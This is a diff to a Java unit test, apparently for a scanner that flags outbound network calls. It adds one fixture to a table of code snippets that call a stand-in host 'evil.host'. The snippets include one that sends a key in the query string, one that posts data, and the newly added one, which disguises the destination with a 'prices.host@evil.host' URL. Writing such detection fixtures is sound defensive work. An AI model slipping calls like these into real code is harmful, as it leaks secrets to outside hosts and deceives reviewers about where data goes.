@@ -107,6 +107,7 @@ class ConnectionsTest {
     @CsvSource(delimiter = '|', textBlock = """
             A.java | t.getForObject("http://evil.host/?k=" + key, String.class);
             a.py   | s.post('https://evil.host', data=x)
+            a.py   | s.get("https://prices.host@evil.host/")
             a.go   | c.Get("http://evil.host/")
             a.yml  | url: "https://evil.host/prices"
             A.java | connect("jdbc:mysql://evil.host/x");
